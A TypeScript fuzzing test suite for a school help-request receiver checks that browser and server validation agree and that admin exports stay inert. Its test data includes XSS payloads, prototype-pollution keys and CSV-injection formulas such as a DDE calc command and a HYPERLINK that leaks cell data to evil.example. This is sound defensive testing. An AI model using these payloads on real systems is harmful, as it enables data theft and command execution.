// Property-based hardening of the wire contract (issue 8): 10,000 generated submissions, from
// valid ones built on the schema's shape to junk, each posted as real multipart to the real
// receiver; the browser's schema module (src/schema, exactly what the bundle ships) and the
// receiver must agree on every one, and the receiver must never answer 5xx.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync } from 'node:fs';
import http from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { csvCell } from '../../server/admin.js';
import { defaults } from '../../server/config.js';
import { DESCRIPTION_MAX, HelpRequest, validate } from '../../src/schema/index.js';
import { payloads } from '../fixtures/xss-corpus.js';
import { bearer, startTestReceiver, validRequests, type TestReceiver } from './support.js';

const RUNS = Number(process.env.PROPERTY_RUNS ?? 10_000);
/** Requests in flight at once. */
const BATCH = 10;
const MB = 1024 * 1024;

// ---------------------------------------------------------------------------------------------
// Generators

/** Characters that break naive code: lone surrogates, bidi and zero-width marks, controls, quotes, combining marks. */
const SPECIAL = [
  '\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\u202E', '\u202D', '\u2066', '\u2069', '\u200F', '\u200E', '\u061C',
  '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u0000', '\u0007', '\u001B', '\u007F', '\u0085', '\u2028',
  '\u2029', '\u00A0', '\u3000', '\t', '\n', '\r', ' ', '"', '\\', '/', '<', '>', '&', "'", '`', '=', '+', '-',
  '@', 'ё', 'Ё', 'й', '\u0301', '\uFFFD', '\uFFFF', '🙂', '👨‍👩‍👧', '𝕏', 'ﷺ', 'İ', 'ß',
];
const RU = 'абвгдеёжзийклмнопрстуфхцчшщъыьэюя АБВГДЕЁЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯ 0123456789 .,;:!?';
const edgyChar = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...RU) },
  { weight: 3, arbitrary: fc.constantFrom(...SPECIAL) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }) },
);
const edgy = (maxLength: number, minLength = 0) => fc.string({ unit: edgyChar, minLength, maxLength });

const junk: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.jsonValue({ maxDepth: 3 }),
);

const ABSENT = Symbol('absent');
type Maybe = unknown;

/** Mostly `good` (by `odds` in 100), else absent, junk of another type, or `bad`. */
const field = (good: fc.Arbitrary<unknown>, bad: fc.Arbitrary<unknown>, odds: number) =>
  fc.oneof(
    { weight: odds, arbitrary: good },
    { weight: Math.ceil((100 - odds) / 3), arbitrary: bad },
    { weight: Math.ceil((100 - odds) / 3), arbitrary: junk },
    { weight: Math.ceil((100 - odds) / 3), arbitrary: fc.constant<Maybe>(ABSENT) },
  );

const pad = (s: fc.Arbitrary<string>) =>
  fc.tuple(fc.constantFrom('', ' ', '\u00A0', '\n\t', '\uFEFF', '\u3000'), s, fc.constantFrom('', ' ', '\r\n', '\u2028')).map((p) => p.join(''));

const names = fc.constantFrom('Иванова Мария Петровна', 'Петров Иван', 'Ким Ён Су', 'Д’Артаньян Шарль', 'Анна-Мария Ли', 'O\'Brien Sean');
const text = (max: number) =>
  fc.oneof({ weight: 4, arbitrary: pad(names) }, { weight: 4, arbitrary: edgy(40, 1) }, { weight: 1, arbitrary: fc.constantFrom('я'.repeat(max), 'я'.repeat(max + 1), ` ${'я'.repeat(max)} `) });
const badText = fc.constantFrom('', '   ', '\u00A0\n', '\uFEFF');

const emails = fc.oneof(
  fc.constantFrom('teacher@school.example', 'parent.ivanova@mail.ru', 'a+tag@b.co', 'x_y-z@sub.domain.org'),
  fc.emailAddress(),
);
const badEmails = fc.oneof(
  fc.constantFrom('a@b', 'a@@b.ru', '.a@b.ru', 'a..b@c.ru', 'мама@почта.рф', 'a@b.ru\u200B', 'javascript:alert(1)//@x.ru', '@x.ru', 'a@-b.ru'),
  edgy(30),
);
const journalUrls = fc.oneof(
  fc.constantFrom('https://kursk1506084570.eljur.ru', 'https://school.eljur.ru/', 'HTTPS://SCHOOL.ELJUR.RU', 'https://xn--80ak6aa92e.eljur.ru'),
  fc.webUrl({ validSchemes: ['https'] }),
);
const badUrls = fc.oneof(
  fc.constantFrom('http://school.eljur.ru', 'javascript:alert(1)', 'data:text/html,x', 'school.eljur.ru', 'https://', '//school.eljur.ru', ' javascript:x', 'https:school', 'file:///etc/passwd'),
  fc.webUrl({ validSchemes: ['http', 'ftp', 'javascript'] }),
  edgy(20),
);
const classes = fc.constantFrom('7А', '11Б', '1а', '10-Я', '5 ё', ' 9В ', '3Ё');
const badClasses = fc.oneof(fc.constantFrom('12А', '0Б', '7A', '7АБ', '7', 'А7', '11\u200BБ', '07А', '7\u0410\u0301', '١А'), edgy(5));

const sentences = fc.constantFrom(
  'Не сохраняются оценки за контрольную в 7А.',
  'Не вижу домашнее задание ребёнка на неделю.',
  'Не открывается дневник после входа через Госуслуги.',
  'После обновления пропало расписание на завтра, что делать?',
);
const descriptions = fc.oneof(
  { weight: 6, arbitrary: fc.tuple(pad(sentences), edgy(60)).map(([s, e]) => s + e) },
  { weight: 2, arbitrary: fc.tuple(sentences, fc.constantFrom(...payloads.map((p) => p.payload))).map(([s, p]) => `${s} ${p}`) },
  { weight: 1, arbitrary: edgy(200, 10) },
  { weight: 1, arbitrary: fc.constantFrom('я'.repeat(10), 'я'.repeat(DESCRIPTION_MAX), `${' '.repeat(50)}${'я'.repeat(DESCRIPTION_MAX)}${' '.repeat(50)}`) },
);
const badDescriptions = fc.oneof(
  fc.constantFrom('коротко', '  коротко  ', 'я'.repeat(DESCRIPTION_MAX + 1), '\u200B'.repeat(9)),
  // Etiquette: the receiver answers 422 when this is the only problem.
  fc.constantFrom('Опять этот сраный журнал, бля, не работает', 'Вы все тут х у й знает что делаете', 'Какого хрена пи*дец с оценками'),
);

const consents = fc.record({ accepted: fc.constant(true), version: fc.oneof(fc.constantFrom('2025-09-01', '1', 'https://school.example/consent'), edgy(20, 1)) });
const badConsents = fc.oneof(
  fc.constantFrom({ accepted: false, version: '1' }, { accepted: 'true', version: '1' }, { accepted: 1, version: '1' }, { accepted: true }, { accepted: true, version: '' }, { accepted: true, version: '1', extra: 1 }),
  fc.record({ accepted: fc.constant(true), version: fc.constant('v'.repeat(101)) }),
);
const contexts = fc.record(
  {
    pageUrl: fc.oneof(fc.webUrl(), edgy(30)),
    userAgent: edgy(60),
    screen: fc.constantFrom('1920x1080', '390x844', ''),
    lang: fc.constantFrom('ru', 'en', 'ru-RU'),
    widgetVersion: fc.constantFrom('0.1.0', '1.0.0-beta.1'),
  },
  { requiredKeys: [] },
);
const badContexts = fc.oneof(
  fc.constantFrom({ pageUrl: 'x'.repeat(2001) }, { lang: 'x'.repeat(36) }, { userAgent: 5 }, { screen: null }, { referrer: 'https://x' }),
);

/** Drops the absent keys of a generated record. */
const present = (r: Record<string, unknown>) => Object.fromEntries(Object.entries(r).filter(([, v]) => v !== ABSENT));

/**
 * The school as the regulation asks: the journal address, or the name with the region (staff
 * always give the region). Each part valid with probability `odds` in 100.
 */
const school = (staff: boolean, odds: number) => {
  const journalUrl = field(journalUrls, badUrls, odds);
  const name = field(text(300), badText, odds);
  const region = field(text(200), badText, odds);
  const shapes = staff
    ? [fc.record({ journalUrl, region }), fc.record({ name, region }), fc.record({ journalUrl, name, region })]
    : [fc.record({ journalUrl }), fc.record({ name, region }), fc.record({ journalUrl, region }), fc.record({ journalUrl, name, region })];
  return fc.oneof(...shapes).map(present);
};

/** A request built on the schema's shape for a role: each field valid with probability `odds` in 100. */
const shaped = (odds: number) =>
  field(fc.constantFrom('staff', 'parent', 'student'), fc.constantFrom('admin', 'Staff', 'teacher', '', 'role'), odds)
    .chain((role) => {
      const staff = role === 'staff';
      return fc.record({
        version: field(fc.constant(1), fc.constantFrom(2, '1', 0, 1.5, -1), odds),
        role: fc.constant(role),
        school: field(school(staff, odds), fc.constantFrom({}, { journalUrl: 'https://x.eljur.ru', extra: 1 }), odds),
        email: staff ? field(emails, badEmails, odds) : fc.oneof(fc.constant<Maybe>(ABSENT), field(emails, badEmails, odds)),
        fullName: staff ? fc.constant<Maybe>(ABSENT) : field(text(200), badText, odds),
        childClass: staff ? fc.constant<Maybe>(ABSENT) : field(classes, badClasses, odds),
        description: field(descriptions, badDescriptions, odds),
        consent: field(consents, badConsents, odds),
        context: fc.oneof(fc.constant<Maybe>(ABSENT), field(contexts, badContexts, odds)),
        extra: fc.oneof({ weight: 30, arbitrary: fc.constant<Maybe>(ABSENT) }, { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('id', 'status', 'seq', 'fullName'), junk) }),
      });
    })
    .map(({ extra, ...r }) => JSON.stringify({ ...present(r), ...(extra === ABSENT ? {} : (extra as object)) }));

/** Keys that pollute prototypes when merged carelessly, spliced into the JSON text so they are own keys. */
const pollute = fc
  .tuple(shaped(97), fc.constantFrom('__proto__', 'constructor', 'prototype', '__defineGetter__', 'hasOwnProperty'), fc.constantFrom('{', '"school":{', '"consent":{'), junk)
  .map(([json, key, where, value]) => (json.includes(where) ? json.replace(where, `${where}${JSON.stringify(key)}:${JSON.stringify(value ?? null)},`) : json));

/** A JSON key given twice: JSON.parse keeps the last, on both sides. */
const duplicated = fc
  .tuple(shaped(97), fc.constantFrom('"role":"admin",', '"version":2,', '"description":"коротко",', '"role":"staff","email":"x",'))
  .map(([json, dup]) => json.replace('{', `{${dup}`));

const BIG_CHARS = ['я', 'a', ' ', '\uD800', '\u200B', '"', '🙂'];
/** A request with one 1 MB string in a field (a tiny fraction: they are slow to post). */
const huge = fc
  .tuple(shaped(100), fc.constantFrom('description', 'fullName', 'email', 'name', 'consent.version', 'context.userAgent', 'junk'), fc.constantFrom(...BIG_CHARS))
  .map(([json, where, c]) => {
    const r = JSON.parse(json) as Record<string, any>;
    const big = c.repeat(Math.ceil(MB / c.length));
    if (where === 'email') r.email = `${'a'.repeat(MB)}@school.example`;
    else if (where === 'consent.version') r.consent = { accepted: true, version: big };
    else if (where === 'context.userAgent') r.context = { userAgent: big };
    else if (where === 'junk') r.junk = big;
    else if (where === 'name') r.school = { ...r.school, name: big };
    else r[where] = where === 'description' ? `Не работает журнал ${big}` : big;
    return JSON.stringify(r);
  });

/** Not JSON at all, or not an object. */
const notJson = fc.oneof(edgy(40), fc.constantFrom('', '{', '{"version":1,', 'null', '[]', '"x"', '1e999', '{"a":1}}', '\uFEFF{}'));

const submission = fc.oneof(
  { weight: 400, arbitrary: shaped(97) },
  { weight: 250, arbitrary: shaped(80) },
  { weight: 100, arbitrary: pollute },
  { weight: 50, arbitrary: duplicated },
  { weight: 100, arbitrary: fc.jsonValue({ maxDepth: 4 }).map((v) => JSON.stringify(v)) },
  { weight: 70, arbitrary: notJson },
  { weight: 3, arbitrary: huge },
);

/** Cases found once and kept, so that every run tries them whatever the seed. */
const known = [
  JSON.stringify(validRequests.staff),
  // A BOM before the JSON: the multipart decoder drops it, like the browser's.
  `\uFEFF${JSON.stringify(validRequests.parent)}`,
  // An own `__proto__` key, as JSON.parse makes it.
  JSON.stringify(validRequests.student).replace('{', '{"__proto__":{"role":"staff"},'),
  // An e-mail address of 1 MB: valid by the pattern, far over the receiver's JSON limit.
  JSON.stringify({ ...validRequests.staff, email: `${'a'.repeat(MB)}@school.example` }),
  // Lone surrogates in every free-text field.
  JSON.stringify({ ...validRequests.parent, fullName: '\uD800Иванова', description: 'Не вижу оценки \uDFFF\u202E\u200B в дневнике' }),
];

// ---------------------------------------------------------------------------------------------
// What the browser decides and what the receiver answers

/** The `request` part as the receiver will read it: the form appends a string, so lone surrogates become U+FFFD on the wire. */
const onTheWire = (text: string) => Buffer.from(text, 'utf8');

type Verdict = { kind: 'not-json' } | { kind: 'ok'; data: unknown } | { kind: 'etiquette' | 'invalid'; issues: string[] };

function browserVerdict(wire: Buffer): Verdict {
  let json: unknown;
  try {
    // A multipart text part is read with WHATWG "UTF-8 decode", which drops a leading BOM.
    json = JSON.parse(new TextDecoder().decode(wire));
  } catch {
    return { kind: 'not-json' };
  }
  const result = validate(HelpRequest, json);
  if (result.ok) return { kind: 'ok', data: result.data };
  const issues = result.issues.map((i) => `${i.path.join('.')}:${i.key}`);
  return { kind: result.issues.every((i) => i.key === 'validation.etiquette') ? 'etiquette' : 'invalid', issues };
}

/** Keeps connections open between requests: 10,000 new TCP connections would be most of the run. */
const agent = new http.Agent({ keepAlive: true, maxSockets: 16 });

/**
 * POSTs the `request` part as multipart/form-data the way a browser encodes a string part (no
 * part Content-Type), over node:http: undici's fetch and FormData cost twice as much per request.
 */
function post(endpoint: string, wire: Buffer): Promise<{ status: number; body: string; json?: Record<string, any> }> {
  const url = new URL(endpoint);
  const boundary = `----jhw-property-${randomUUID()}`;
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="request"\r\n\r\n`),
    wire,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const headers = { 'Content-Type': `multipart/form-data; boundary=${boundary}`, 'Content-Length': body.length, 'Idempotency-Key': randomUUID() };
  return new Promise((resolve, reject) => {
    const request = http.request({ host: url.hostname, port: url.port, path: url.pathname, method: 'POST', agent, headers }, (response) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', () => {
        const text = Buffer.concat(chunks).toString('utf8');
        let json: Record<string, any> | undefined;
        try {
          json = JSON.parse(text);
        } catch {
          // The assertion names the status; the text is kept for its message.
        }
        resolve({ status: response.statusCode!, body: text, json });
      });
      response.on('error', reject);
    });
    request.on('error', reject);
    request.end(body);
  });
}

/** A data directory in memory where there is one: 10,000 fsyncs on a shared disk would dominate the run. */
const fastDataDir = () => mkdtempSync(join(existsSync('/dev/shm') ? '/dev/shm' : tmpdir(), 'jhw-property-'));

describe('browser schema and receiver agree (fast-check)', () => {
  let receiver: TestReceiver;
  before(async () => {
    receiver = await startTestReceiver({ RATE_LIMIT: '1000000' }, { dataDir: fastDataDir() });
  });
  after(async () => {
    agent.destroy();
    await receiver.dispose();
  });

  it(`on accept/reject for ${RUNS.toLocaleString('en')} generated requests, never answering 5xx`, { timeout: 300_000 }, async (t) => {
    const tally = new Map<string, number>();
    const count = (what: string) => tally.set(what, (tally.get(what) ?? 0) + 1);
    const started = Date.now();
    /** One generated submission: what the browser decides, what the receiver answers, and that they agree. */
    const check = async (text: string) => {
      const wire = onTheWire(text);
      const verdict = browserVerdict(wire);
      const answer = await post(receiver.endpoint, wire);
      const said = `receiver: ${answer.status} ${answer.body.slice(0, 300)}`;
      assert.ok(answer.status < 500, said);
      if (wire.length > defaults.MAX_JSON_BYTES) {
        // Larger than the receiver reads: refused by size, whatever is inside.
        assert.equal(answer.status, 413, said);
        if (verdict.kind === 'ok') {
          // The form sends what the schema outputs (trimmed): that must fit and be stored.
          const sent = onTheWire(JSON.stringify(verdict.data));
          assert.ok(sent.length <= defaults.MAX_JSON_BYTES, `the browser schema accepts a request of ${sent.length} bytes that the receiver refuses (413)`);
          assert.equal((await post(receiver.endpoint, sent)).status, 201);
          count('201 (oversized padding, trimmed by the schema)');
        }
        count(`413 (over ${defaults.MAX_JSON_BYTES / 1024} KB)`);
        return;
      }
      switch (verdict.kind) {
        case 'ok':
          assert.equal(answer.status, 201, `the browser schema accepts it; ${said}`);
          assert.match(String(answer.json?.id), /^\d{4}-\d{6}$/);
          break;
        case 'not-json':
          assert.equal(answer.status, 400, said);
          assert.equal(answer.json?.error, 'request-not-json', said);
          break;
        case 'etiquette':
          assert.equal(answer.status, 422, said);
          assert.equal(answer.json?.error, 'etiquette', said);
          break;
        case 'invalid':
          assert.equal(answer.status, 400, `the browser schema rejects it (${verdict.issues.join(', ')}); ${said}`);
          assert.equal(answer.json?.error, 'validation', said);
          // The same problems, at the same paths: the form shows them next to the same fields.
          assert.deepEqual(
            (answer.json!.issues as { path: PropertyKey[]; code: string }[]).map((i) => `${i.path.join('.')}:${i.code}`),
            verdict.issues,
          );
          break;
      }
      count(`${answer.status} (${verdict.kind})`);
    };
    // Several at once, as a school's visitors would send them: the run stays within tens of seconds.
    // Every generated request is tried and each disagreement kept, cut short (some are 1 MB), so
    // that one run lists them all; shrinking batches of megabyte strings would take minutes.
    const failures: string[] = [];
    const checkOne = (text: string) =>
      check(text).catch((error: Error) => {
        count('disagreement');
        failures.push(`${error.message}\n  request (${text.length} chars): ${JSON.stringify(text.length > 600 ? `${text.slice(0, 300)}…${text.slice(-300)}` : text)}`);
      });
    const examples = known.map((text) => [[text, ...Array<string>(BATCH - 1).fill(known[0]!)]] as [string[]]);
    const details = await fc.check(
      fc.asyncProperty(fc.array(submission, { minLength: BATCH, maxLength: BATCH }), async (batch) => {
        await Promise.all(batch.map(checkOne));
      }),
      { numRuns: Math.ceil(RUNS / BATCH), examples, interruptAfterTimeLimit: 240_000, markInterruptAsFailure: true },
    );
    if (details.failed) assert.fail(`${details.errorInstance} (fast-check seed ${details.seed})`);
    const total = [...tally.values()].reduce((a, b) => a + b, 0);
    const accepted = tally.get('201 (ok)') ?? 0;
    t.diagnostic(`${total} requests in ${((Date.now() - started) / 1000).toFixed(1)} s: ${[...tally].map(([k, v]) => `${k} ${v}`).join(', ')}`);
    assert.equal(failures.length, 0, `${failures.length} of ${total} requests got answers the browser schema disagrees with; the first ones:\n${failures.slice(0, 5).join('\n')}`);
    // A generator that only produced junk would prove little.
    assert.ok(accepted >= total * 0.2, `only ${accepted} of ${total} were valid`);
    for (const kind of ['400 (invalid)', '400 (not-json)', '422 (etiquette)']) assert.ok((tally.get(kind) ?? 0) > 0, `no ${kind} case was generated`);
  });
});

// ---------------------------------------------------------------------------------------------
// The administrator's export (issue 8, item 3): visitors' text reaches a spreadsheet.

/** RFC 4180 rows of quoted cells separated by `;` (Excel's separator under Russian settings), as the receiver writes them (cells may hold CR and LF). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    assert.equal(text[i], '"', `unquoted cell at ${i}`);
    let cell = '';
    for (i++; ; i++) {
      assert.ok(i < text.length, 'unterminated cell');
      if (text[i] !== '"') cell += text[i];
      else if (text[i + 1] === '"') (cell += '"'), i++;
      else break;
    }
    row.push(cell);
    i++;
    if (text[i] === ';') i++;
    else {
      assert.equal(text.slice(i, i + 2), '\r\n', `a cell not followed by ; or CRLF at ${i}`);
      rows.push(row);
      row = [];
      i += 2;
    }
  }
  return rows;
}

/** Characters a spreadsheet reads as the start of a formula (OWASP CSV Injection), and DDE tricks. */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('XSS and formula corpus through the receiver and its export', () => {
  let receiver: TestReceiver;
  before(async () => {
    receiver = await startTestReceiver({ RATE_LIMIT: '1000000' }, { dataDir: fastDataDir() });
  });
  after(() => receiver.dispose());

  it('a CSV cell is never read as a formula and gives back the text (fast-check)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: edgyChar }), fc.constantFrom(...payloads.map((p) => p.payload))), fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '=cmd|\' /C calc\'!A0'), (s, prefix) => {
        const value = prefix + s;
        const [[cell]] = parseCsv(`${csvCell(value)}\r\n`) as [[string]];
        assert.ok(!FORMULA_START.test(cell), JSON.stringify(cell));
        assert.equal(cell, FORMULA_START.test(value) ? `'${value}` : value);
      }),
      { numRuns: 2000 },
    );
  });

  it(`stores all ${payloads.length} payloads verbatim and exports them as inert data (CSV and JSON Lines)`, async () => {
    const formulas = ['=HYPERLINK("https://evil.example?"&A1,"x")', '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
    const sent = new Map<string, { description: string; fullName: string }>();
    const all = [...payloads.map((p) => p.payload), ...formulas];
    for (const [i, payload] of all.entries()) {
      const request = {
        ...validRequests.parent,
        fullName: payload.slice(0, 200).trim() || 'x',
        description: `Запрос ${i}: ${payload}`.slice(0, DESCRIPTION_MAX),
      };
      // Only what the shared schema accepts reaches the export; others are the first suite's business.
      if (!validate(HelpRequest, request).ok) continue;
      const form = new FormData();
      form.append('request', JSON.stringify(request));
      const response = await fetch(receiver.endpoint, { method: 'POST', body: form, headers: { 'Idempotency-Key': randomUUID() } });
      assert.equal(response.status, 201, await response.clone().text());
      const { id } = (await response.json()) as { id: string };
      sent.set(id, { description: request.description.trim(), fullName: request.fullName.trim() });
    }
    assert.ok(sent.size >= 100, `only ${sent.size} payloads were stored`);

    const csv = await fetch(`${receiver.url}/api/requests/export.csv`, { headers: bearer() });
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(csv.headers.get('content-disposition') ?? '', /^attachment/);
    const rows = parseCsv((await csv.text()).replace(/^\uFEFF/, ''));
    const [head, ...body] = rows;
    const col = (name: string) => head!.indexOf(name);
    let checked = 0;
    for (const row of body) {
      for (const cell of row) assert.ok(!FORMULA_START.test(cell), `a cell a spreadsheet runs: ${JSON.stringify(cell)}`);
      const expected = sent.get(row[col('id')]!);
      if (!expected) continue;
      const unquote = (cell: string) => (cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell);
      // UTF-8 cannot carry a lone surrogate: the file has U+FFFD there, as any UTF-8 export would.
      const utf8 = (s: string) => (s as string & { toWellFormed(): string }).toWellFormed();
      assert.equal(unquote(row[col('full_name')]!), utf8(expected.fullName));
      assert.equal(unquote(row[col('description')]!), utf8(expected.description));
      checked++;
    }
    assert.equal(checked, sent.size);

    const jsonl = await fetch(`${receiver.url}/api/requests/export.jsonl`, { headers: bearer() });
    assert.match(jsonl.headers.get('content-type') ?? '', /^application\/jsonl/);
    const lines = (await jsonl.text()).trim().split('\n').map((l) => JSON.parse(l) as { id: string; request: { fullName: string; description: string } });
    for (const line of lines) {
      const expected = sent.get(line.id);
      if (expected) assert.deepEqual({ fullName: line.request.fullName, description: line.request.description }, expected);
    }

    // One request as JSON, as an administrator's tool would fetch it: data, never a page.
    const [someId] = sent.keys();
    const one = await fetch(`${receiver.url}/api/requests/${someId}`, { headers: bearer() });
    assert.match(one.headers.get('content-type') ?? '', /^application\/json/);
  });
});
